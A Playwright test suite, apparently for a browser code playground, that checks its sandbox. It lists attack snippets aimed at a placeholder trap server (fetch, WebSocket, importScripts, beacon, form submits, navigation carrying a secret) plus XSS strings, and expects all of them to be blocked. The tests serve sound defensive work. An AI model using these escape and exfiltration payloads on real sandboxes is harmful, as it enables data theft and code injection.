import type { Frame } from '@playwright/test';
import { expect, test, type Runner } from './harness/fixtures';
import type { Trap } from './harness/server';

/** The worker hides some of these for the learner's sake; an attacker takes them from the prototype. */
const NATIVE = 'const native = (name) => { const own = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, name); return own?.value ?? self[name]; };\n';

/** Each must log `blocked …` or `missing`; TRAP stands for the address of a server that would answer. */
const ATTACKS: Readonly<Record<string, string>> = {
  fetch: "await native('fetch').call(self, 'TRAP/fetch')",
  'fetch without CORS': "await native('fetch').call(self, 'TRAP/nocors', { mode: 'no-cors' })",
  'fetch of the site': "await native('fetch').call(self, 'SITE/vendor/manifest.json', { mode: 'no-cors' })",
  XMLHttpRequest: "await new Promise((yes, no) => { const r = new XMLHttpRequest(); r.open('GET', 'TRAP/xhr'); r.onload = yes; r.onerror = no; r.send(); })",
  WebSocket: "await new Promise((yes, no) => { const s = new WebSocket('TRAP/ws'.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })",
  EventSource: "await new Promise((yes, no) => { const s = new EventSource('TRAP/sse'); s.onopen = yes; s.onerror = () => { s.close(); no(); }; })",
  'import of an address': "await import('TRAP/'.concat('module.js'))",
  'import of data': "await import('data:text/javascript,'.concat('export default 1'))",
  importScripts: "importScripts('TRAP/script.js')",
  'worker from an address': "await new Promise((yes, no) => { const w = new Worker('TRAP/worker.js'); w.onmessage = yes; w.onerror = no; })",
  'worker from data': "await new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = yes; w.onerror = no; })",
  'fetch in a nested worker': `await new Promise((yes, no) => {
    const w = new Worker(URL.createObjectURL(new Blob(["fetch('TRAP/nested').then(() => postMessage(1), () => postMessage(0))"])));
    w.onmessage = ({ data }) => (data ? yes() : no()); w.onerror = no; })`,
  FontFace: "await new FontFace('x', 'url(TRAP/font)').load()",
  WebTransport: "await new WebTransport('TRAP/wt'.replace('http:', 'https:')).ready",
  WebSocketStream: "await new WebSocketStream('TRAP/wss'.replace('http', 'ws')).opened",
  RTCPeerConnection: 'new RTCPeerConnection()',
  eval: "(0, eval)('1')",
  Function: "new Function('return 1')()",
  'timer from text': "await new Promise((yes, no) => { self.gotcha = yes; setTimeout(no, 200); native('setTimeout').call(self, 'self.gotcha()'); })",
  WebAssembly: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  indexedDB: "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
  caches: "await caches.open('x')",
  'origin private files': 'await navigator.storage.getDirectory()',
  localStorage: 'localStorage.length',
  'document.cookie': 'document.cookie',
  cookieStore: 'await cookieStore.getAll()',
  'service workers': "await navigator.serviceWorker.register('SITE/sw.js')",
  parent: 'parent.document',
  top: 'top.location.href',
  window: 'window.open',
  'posting to the frame': "if (typeof postMessage !== 'function') throw 0; postMessage({ type: 'killed', worker: 1 }); throw 'sent, but nobody listens'",
  'navigation by location': "self.location.href = 'TRAP/location'; if (self.location.href.startsWith('blob:')) throw 0",
  'a client of the service worker': "await clients.openWindow('TRAP/open')",
};

test('no attack of learner code reaches anything', async ({ runner, trap, site }) => {
  const parts = Object.entries(ATTACKS).map(([name, attack]) => `
try { ${attack}; console.log('REACHED', '${name}'); } catch (error) { console.log('blocked', '${name}'); }`);
  const code = NATIVE + parts.join('').replaceAll('TRAP', trap.url).replaceAll('SITE', site.url);
  const state = await runner.page.evaluate((text) => harness.playground().run(text, { language: 'javascript' }).finished, code);
  expect(state.error).toBeUndefined();
  const reached = state.entries.map(({ values }) => values.map((value) => ('text' in value ? value.text : '')).join(' '));
  expect(reached).toEqual(Object.keys(ATTACKS).map((name) => `blocked ${name}`));
  await runner.page.waitForTimeout(500);
  expect(trap.hits).toEqual([]);
});

test('nor does any of a handler that a stream invokes', async ({ runner, trap, site }) => {
  const parts = Object.entries(ATTACKS).map(([name, attack]) => `
try { ${attack}; console.log('REACHED', '${name}'); } catch (error) { console.log('blocked', '${name}'); }`);
  const code = `${NATIVE}
import { DynamoDBClient, PutItemCommand, UpdateTableCommand } from '@aws-sdk/client-dynamodb';
const client = new DynamoDBClient({});
await client.send(new UpdateTableCommand({ TableName: 'Music', StreamSpecification: { StreamEnabled: true, StreamViewType: 'KEYS_ONLY' } }));
await client.send(new PutItemCommand({ TableName: 'Music', Item: { artist: { S: 'a' } } }));
export const handler = async () => {${parts.join('')}
};`.replaceAll('TRAP', trap.url).replaceAll('SITE', site.url);
  const finished = await runner.run(code);
  expect(finished.error).toBeUndefined();
  await runner.page.evaluate(() => harness.playground().engine.connectFunction({ mapping: { StartingPosition: 'TRIM_HORIZON' }, timeoutMs: 60_000 }));
  await expect.poll(() => runner.page.evaluate(() => harness.functionReport()?.mapping?.done), { timeout: 30_000 }).toBe(1);
  await runner.page.waitForTimeout(500);
  const { entries } = await runner.page.evaluate(() => harness.state());
  const reached = entries.map(({ values }) => values.map((value) => ('text' in value ? value.text : '')).join(' '));
  expect(reached).toEqual(Object.keys(ATTACKS).map((name) => `blocked ${name}`));
  expect(trap.hits).toEqual([]);
});

test('addresses that are only hinted at or reported are not contacted', async ({ runner, trap }) => {
  await runner.run(`
new Blob(['<link rel=preconnect href=${trap.url}>'], { type: 'text/html' });
performance.mark('x', { detail: '${trap.url}' });
try { Response.redirect('${trap.url}/redirect'); new Request('${trap.url}/request'); } catch {}
navigator.userAgent;
`);
  expect(trap.hits).toEqual([]);
});

test('a broadcast channel does not reach the page', async ({ runner }) => {
  await runner.page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(globalThis, { heard });
    new BroadcastChannel('x').onmessage = ({ data }) => heard.push(data);
  });
  await runner.run("new BroadcastChannel('x').postMessage('forged'); await new Promise((done) => setTimeout(done, 300));");
  expect(await runner.page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard)).toEqual([]);
});

test('patched built-ins get no port and forge nothing', async ({ runner }) => {
  const state = await runner.run(`
const seen: string[] = [];
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: never[]) { seen.push('port'); return original.apply(this, args); } as never;
Function.prototype.call = new Proxy(Function.prototype.call, { apply(target, self, args) { if (args[0] instanceof MessagePort) seen.push('call'); return Reflect.apply(target, self, args); } });
addEventListener('message', () => seen.push('message'));
console.log('one');
await new Promise((done) => setTimeout(done, 200));
console.log(seen.join());
`);
  expect(state).toMatchObject({ status: 'finished', entries: [{}, { values: [{ text: '' }] }] });
});

test('output is text, whatever it looks like', async ({ runner }) => {
  const state = await runner.run("console.log('<img src=x onerror=alert(1)>'); throw new Error('<script>alert(1)</script>');");
  expect(state.entries[0]?.values[0]).toEqual({ type: 'string', text: '<img src=x onerror=alert(1)>', size: 28 });
});

/** The frame runs no learner code. Should it ever be taken over, these hold: it is driven from outside, past its policy on scripts. */
test.describe('a frame that was taken over', () => {
  /** Chromium opens a connection ahead of a navigation that the policy then refuses; nothing is sent through it. */
  const requests = (trap: Trap): readonly string[] => trap.hits.filter((hit) => hit !== 'connection');

  async function frameOf({ page }: Runner): Promise<Frame> {
    await expect.poll(() => page.frames().length).toBe(2);
    const frame = page.frames()[1];
    if (!frame) throw new Error('no sandbox frame');
    await frame.waitForLoadState();
    return frame;
  }

  test('has no origin, no storage, no parent and no network', async ({ runner, trap }) => {
    const frame = await frameOf(runner);
    const reached = await frame.evaluate(async (url) => {
      const attacks: Record<string, () => unknown> = {
        fetch: () => fetch(`${url}/fetch`),
        beacon: () => { if (!navigator.sendBeacon(`${url}/beacon`)) throw new Error('refused'); throw new Error('queued'); },
        image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = `${url}/image`; }),
        script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = `${url}/script`; document.body.append(s); }),
        frame: () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.onload = no; f.src = `${url}/frame`; document.body.append(f); setTimeout(no, 500); }),
        inline: () => { const s = document.createElement('script'); s.textContent = 'window.inline = 1'; document.body.append(s); if (!('inline' in window)) throw new Error('blocked'); },
        localStorage: () => localStorage.length,
        cookie: () => document.cookie,
        parent: () => parent.document.title,
        top: () => top?.location.href,
        popup: () => { if (!open(`${url}/popup`)) throw new Error('blocked'); },
        navigateTop: () => { if (top) top.location.href = `${url}/top`; },
        form: () => { const f = document.createElement('form'); f.action = `${url}/form`; document.body.append(f); f.submit(); throw new Error('sent'); },
        link: () => { const a = document.createElement('a'); a.href = `${url}/link`; a.target = '_blank'; document.body.append(a); a.click(); throw new Error('clicked'); },
      };
      const through: string[] = [];
      for (const [name, attack] of Object.entries(attacks)) {
        try { await attack(); through.push(name); } catch { /* as it should be */ }
      }
      return through;
    }, trap.url);
    expect(reached).toEqual([]);
    await runner.page.waitForTimeout(500);
    expect(requests(trap)).toEqual([]);
    expect(runner.page.url()).not.toContain(trap.url);
  });

  test('cannot carry data out by navigating itself, and is replaced', async ({ runner, trap }) => {
    const frame = await frameOf(runner);
    await frame.evaluate((url) => { location.assign(`${url}/self?secret`); }, trap.url).catch(() => undefined);
    await runner.page.waitForTimeout(500);
    expect(requests(trap)).toEqual([]);
    expect(await runner.logs("console.log('well')")).toEqual(['well']);
  });

  test('cannot speak to the page by window messages', async ({ runner }) => {
    const frame = await frameOf(runner);
    await frame.evaluate(() => {
      for (const data of [{ type: 'ready' }, { type: 'console', entries: [{ level: 'log', values: [] }] }, { type: 'failed' }, { type: 'connect' }, null, 'x']) {
        parent.postMessage(data, '*', data ? [new MessageChannel().port1] : []);
      }
    });
    expect(await runner.logs("console.log('well')")).toEqual(['well']);
  });
});

test('the sandbox file refuses to work outside a sandboxed frame', async ({ runner, site }) => {
  const { sandboxFrame } = await runner.page.evaluate(async () => (await fetch('/vendor/manifest.json')).json() as Promise<{ sandboxFrame: string }>);
  const answered = await runner.page.evaluate(async (src) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    document.body.append(frame);
    await loaded;
    const { port1, port2 } = new MessageChannel();
    frame.contentWindow?.postMessage({ type: 'connect' }, '*', [port2]);
    const answer = new Promise((resolve) => { port1.onmessage = () => resolve('answered'); });
    port1.postMessage({ type: 'ping', nonce: 1 });
    return Promise.race([answer, new Promise((resolve) => { setTimeout(() => resolve('silent'), 500); })]);
  }, site.url + sandboxFrame);
  expect(answered).toBe('silent');
});
